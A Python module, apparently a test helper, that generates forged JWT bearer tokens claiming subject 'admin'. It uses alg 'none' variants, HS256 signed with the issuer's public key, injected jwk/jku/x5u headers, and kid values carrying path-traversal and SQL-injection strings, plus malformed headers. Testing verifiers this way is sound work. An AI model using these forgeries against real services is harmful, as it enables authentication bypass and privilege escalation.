"""Tokens that somebody makes who has a real one, the published keys, and keys of their own."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator, Mapping
from typing import Any

import jwt
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from jwt.algorithms import RSAAlgorithm

Part = Mapping[str, Any]


def forgeries(token: str, published: Part, elsewhere: str) -> dict[str, str]:
    """Authorization headers by what is wrong with them. `published`: the issuer's JWK;
    `elsewhere`: where the forger's own keys would be fetched from."""
    header, claims = jwt.get_unverified_header(token), _claims(token)
    forger = Forger(header, claims | {"sub": "admin"})
    named = {
        **dict(forger.without_signature()),
        **dict(forger.under_the_public_key(published)),
        **dict(forger.with_a_key_of_their_own(elsewhere)),
    }
    whole = {name: f"Bearer {each}" for name, each in named.items()}
    return whole | _misspelled(token)


class Forger:
    """Knows what a real token says, and says something else."""

    def __init__(self, header: Part, claims: Part) -> None:
        self.header, self.claims = header, claims
        self.key = rsa.generate_private_key(public_exponent=65_537, key_size=2048)

    def without_signature(self) -> Iterator[tuple[str, str]]:
        for name in ("none", "None", "NONE", "nOnE", ""):
            for signature in ("", "AAAA"):
                yield f"alg {name!r} {signature}", f"{self._content(alg=name)}.{signature}"

    def under_the_public_key(self, published: Part) -> Iterator[tuple[str, str]]:
        """The oldest trick: what everybody can read, taken for a shared secret."""
        public, subject = _public(published), serialization.PublicFormat.SubjectPublicKeyInfo
        secrets = {
            "PEM": public.public_bytes(serialization.Encoding.PEM, subject),
            "DER": public.public_bytes(serialization.Encoding.DER, subject),
            "n": published["n"].encode(),
            "JWK": json.dumps(dict(published)).encode(),
        }
        for name, secret in secrets.items():
            content = self._content(alg="HS256")
            mac = hmac.digest(secret, content.encode(), hashlib.sha256)
            yield f"HS256 under {name}", f"{content}.{_b64(mac)}"

    def with_a_key_of_their_own(self, elsewhere: str) -> Iterator[tuple[str, str]]:
        own = json.loads(RSAAlgorithm.to_jwk(self.key.public_key()))
        for kid in ("", "mine", "../../../dev/null", "' OR 1=1 --", ["a"], None, 0):
            yield f"kid {kid!r}", self._signed(kid=kid)
        yield "the real kid", self._signed()
        yield "crit", self._signed(crit=["exp"])
        for brought in ({"jwk": own}, {"jku": elsewhere}, {"x5u": elsewhere}, {"x5c": ["MIIB"]}):
            yield "".join(brought), self._signed(**brought)
            yield f"{''.join(brought)} and kid", self._signed(kid="mine", **brought)

    def _content(self, **header: Any) -> str:
        return f"{_json(dict(self.header) | header)}.{_json(self.claims)}"

    def _signed(self, **header: Any) -> str:
        content = self._content(**header)
        signature = self.key.sign(content.encode(), padding.PKCS1v15(), hashes.SHA256())
        return f"{content}.{_b64(signature)}"


def _misspelled(token: str) -> dict[str, str]:
    """A real token, but not the way it is."""
    head, body, signature = token.split(".")
    return {
        "cut off": f"Bearer {token[:-8]}",
        "one letter less": f"Bearer {token[:-1]}",
        "no signature": f"Bearer {head}.{body}.",
        "two parts": f"Bearer {head}.{body}",
        "four parts": f"Bearer {token}.{signature}",
        "padding": f"Bearer {token}==",
        "a blank inside": f"Bearer {head}.{body}. {signature}",
        "two tokens": f"Bearer {token}, Bearer {token}",
        "two tokens and a comma": f"Bearer {token},{token}",
        "quotes": f'Bearer "{token}"',
        "another scheme": f"Basic {token}",
        "the scheme twice": f"Bearer Bearer {token}",
        "the scheme alone": "Bearer",
    }


def _claims(token: str) -> dict[str, Any]:
    claims: dict[str, Any] = jwt.decode(token, options={"verify_signature": False})
    return claims


def _public(published: Part) -> rsa.RSAPublicKey:
    key = RSAAlgorithm.from_jwk(dict(published))
    assert isinstance(key, rsa.RSAPublicKey)
    return key


def _json(part: Part) -> str:
    return _b64(json.dumps(dict(part)).encode())


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
